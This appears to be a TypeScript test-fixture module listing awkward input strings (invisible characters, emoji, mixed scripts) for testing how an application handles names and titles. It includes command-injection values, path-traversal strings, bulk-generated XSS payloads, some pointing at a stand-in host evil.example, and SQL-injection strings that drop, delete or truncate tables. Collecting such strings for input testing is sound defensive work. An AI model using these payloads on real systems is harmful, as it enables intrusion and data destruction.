/** Texts that break careless programs, by what is awkward about them. All distinct; made, not copied. */
export const awkwardTexts: Record<string, readonly string[]> = {
  controls: codePoints([0x01, 0x1f], [0x7f, 0x9f]).map((sign) => `가${sign}나`),
  invisible: [
    ...codePoints(
      [0xad, 0xad],
      [0x034f, 0x034f],
      [0x061c, 0x061c],
      [0x115f, 0x1160],
      [0x17b4, 0x17b5],
      [0x180b, 0x180e],
      [0x200b, 0x200f],
      [0x2028, 0x202e],
      [0x2060, 0x2064],
      [0x2066, 0x206f],
      [0x3164, 0x3164],
      [0xfe00, 0xfe02],
      [0xfeff, 0xfeff],
      [0xffa0, 0xffa0],
      [0xfff9, 0xfffb],
      [0xe0001, 0xe0001],
      [0xe0020, 0xe0024],
    ).map((sign) => `a${sign}b`),
    "\u202e거꾸로 gpj.exe",
    "\u2066격리\u2069 \u2067다시",
    "\u200b",
    "\ufeff앞에 붙은 표시",
  ],
  emoji: ["👨‍👩‍👧‍👦", "👩🏽‍🚀", "🏳️‍🌈", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇰🇷🇰🇵", "1️⃣#️⃣", "☺︎☺️", "🧑‍🤝‍🧑".repeat(5), "👍🏻👍🏼👍🏽👍🏾👍🏿", "🫠🪿🫨"],
  scripts: [
    "مرحبا بالعالم ١٢٣",
    "שָׁלוֹם עולם",
    "Ω≈ç√∫˜µ≤≥÷",
    "นี่คือการทดสอบ",
    "देवनागरी परीक्षण",
    "བོད་སྐད་ཡིག",
    "ᄒ\u1161\u11ab글 분해",
    "ㄱㄴㄷ ㅏㅑㅓ ㄳ",
    "ﾊﾝｶｸ １２３ ＡＢＣ",
    "𠀀𠀁𪚥 𝕬𝖇 𝟙𝟚",
    "\ue000\uf8ff \u{f0000}",
    "\ufffe\uffff\u{1fffe}",
    "e\u0301 é ﬁ ß ẞ İ ı",
    `제${"\u0300\u0301\u0315\u0489".repeat(20)}트`,
    "ǅ ǆ Ǆ ς Σ",
    "½ ² Ⅷ ㉠ ㎏ ℡",
    "کتاب\u200cخانه",
    "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
  ],
  words: [
    ["null", "undefined", "NaN", "Infinity", "true", "None", "nil", "[object Object]"],
    ["0", "-0", "007", "0x1F", "1e400", "1E-9", "１２３", "1,000.50", "2147483648", "９９９"],
    ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf"],
    ["undefined.length", "{}", "[]", '{"a":1}', '"', "'", "`", "\\", "/", "//", "\\\\", "\\u0000"],
    ["%00", "%s%n%x", "%d", "%ZZ", "%25", "&amp;", "&#0;", "&lt;b&gt;", "\\x00", "\\r\\n"],
    ["${7*7}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "[[${7*7}]]", "{% if 1 %}", "$$", "$1", "$&"],
    ["../../etc/passwd", "..\\..\\boot.ini", "file:///etc/passwd", "C:\\Windows", "/dev/null"],
    [
      "| id",
      "; ls -la",
      "$(id)",
      "`id`",
      "&& whoami",
      "=1+1",
      "+1",
      "-1",
      "@SUM(A1)",
      "=cmd|' '!A0",
    ],
    ["a\r\nBcc: <b>", "a\nSet-Cookie: a=b", "\r\n\r\n<html>", "a\tb", "줄\n바꿈\n\n셋"],
    ["javascript:alert(1)", "data:text/html,<b>", "//evil.example", "\\\\evil\\share"],
    [
      "  앞뒤 공백은 빼고  ",
      "a  두 칸  b",
      "\u3000전각 공백\u3000",
      ".",
      "…",
      "-- ",
      "#",
      "?a=b&c=d",
    ],
    ["(?:a+)+$", "^(a|a)*$", "*", "?", "[", "(", "+", "\\E"],
  ].flat(),
  markup: markupTexts(),
  statements: statementTexts(),
};

/** Texts that cannot be stored or sent: each is refused wherever it is typed. */
export const impossibleTexts: readonly string[] = [
  "가\u0000나",
  "\u0000",
  "끝에\u0000",
  "홀로 \ud83d 앞",
  "홀로 \ude00 뒤",
  "뒤집힌 \ude00\ud83d 짝",
  "\ud800",
];

export const allAwkwardTexts: readonly string[] = Object.values(awkwardTexts).flat();

/** How long a text counts in our limits: code points, without white space at its ends. */
export function lengthOf(text: string): number {
  return [...text.trim()].length;
}

/** The texts one after the other in pieces of at most `max` code points; a longer text is left out. */
export function packed(texts: readonly string[], max: number, separator = "\n"): string[] {
  const pieces: string[] = [];
  let piece = "";
  for (const text of texts) {
    if (lengthOf(text) > max) continue;
    const longer = piece === "" ? text : piece + separator + text;
    if ([...longer].length <= max) piece = longer;
    else {
      pieces.push(piece);
      piece = text;
    }
  }
  return [...pieces, piece].filter((one) => one.trim() !== "");
}

function codePoints(...ranges: [from: number, to: number][]): string[] {
  return ranges.flatMap(([from, to]) =>
    Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index)),
  );
}

function markupTexts(): string[] {
  const act = "alert(1)";
  const tags = ["img", "svg", "video", "body", "iframe", "details", "input", "object", "math", "a"];
  const events = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpageshow"];
  const places = ["", '"', "'", "-->", "</script>", "</textarea>", "</title>", "]]>", "</style>"];
  return [
    ...tags.flatMap((tag) => events.map((event) => `<${tag} src=x ${event}=${act}>`)),
    ...places.flatMap((place) => [
      `${place}<script>${act}</script>`,
      `${place}<ScRiPt src=//evil.example>`,
      `${place} autofocus onfocus=${act} x=`,
    ]),
    ...["javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:"].map(
      (scheme) => `<a href="${scheme}${act}">누르기</a>`,
    ),
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi//xlink:href=data:x>",
    "<style>@import'//evil.example';</style>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    "<form action=//evil.example><button>",
    "<!--<img src=-->",
    "<![CDATA[<script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;",
    "\\u003cscript\\u003e",
    "＜script＞",
    "<scr\u0001ipt>",
    "<<script>>",
    "<template><script>",
    "<noscript><p title='</noscript><img src=x>'>",
  ];
}

function statementTexts(): string[] {
  const quotes = ["'", '"', "`", "')", "'))", "\\'", "%27", "''", "$$"];
  const endings = [" OR 1=1 --", " OR 'a'='a", "; DROP TABLE accounts; --", " UNION SELECT NULL--"];
  const looks = ["O'Reilly", "5'11\"", "select 우드 원목 table", "union 커피 (1층)", "-- 메모 --"];
  return [
    quotes.flatMap((quote) => endings.map((ending) => `1${quote}${ending}`)),
    quotes.map((quote) => `${quote};SELECT pg_sleep(5)--`),
    quotes.map((quote) => `${quote} AND (SELECT count(*) FROM accounts) > 0 --`),
    quotes.map((quote) => `${quote}||(SELECT version())||${quote}`),
    ["accounts", "sessions", "quotes", "requests", "credit_lots", "reviews"].flatMap((table) => [
      `'; DELETE FROM ${table}; --`,
      `'; UPDATE ${table} SET id = id; --`,
      `x'); TRUNCATE ${table} CASCADE; --`,
      `' UNION SELECT * FROM ${table} LIMIT 1 OFFSET 0 --`,
    ]),
    ["%", "_", "%_%", "\\%", "%%%%", "[a-z]%", "__", "%'%"],
    ["1;--", "1/**/OR/**/1", "0x27204f52", "CHAR(39)", "E'\\047'", "U&'\\0027'", "'::regclass"],
    ["COPY accounts TO '/tmp/a'", "$1::int", ":name", "@x", "{{sql}}", "nextval('a')"],
    ["'; NOTIFY person_events, 'x'; --", "'; SET ROLE postgres; --", "'; COMMIT; --"],
    looks,
  ].flat();
}

/** Whether a text holds a sign that nobody sees, or more than one line: no name or title may. */
export function hidesSomething(text: string): boolean {
  return [...text.trim()].some(
    (sign) =>
      sign !== "\t" &&
      /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\u2800\p{Default_Ignorable_Code_Point}]/u.test(sign),
  );
}

/** What of that changes how its neighbours look, and so may stand between them. */
export const joiningTexts: readonly string[] = allAwkwardTexts.filter(
  (text) =>
    hidesSomething(text) &&
    (text === "کتاب\u200cخانه" ||
      (awkwardTexts["emoji"] ?? []).includes(text) ||
      /^a[\ufe00-\ufe0f]b$/u.test(text)),
);

/** Whether a name, a title or a place in one line may hold a text; `line`: with what stands around it. */
export function standsOnLine(text: string, line = text): boolean {
  return !hidesSomething(line) || joiningTexts.includes(text);
}
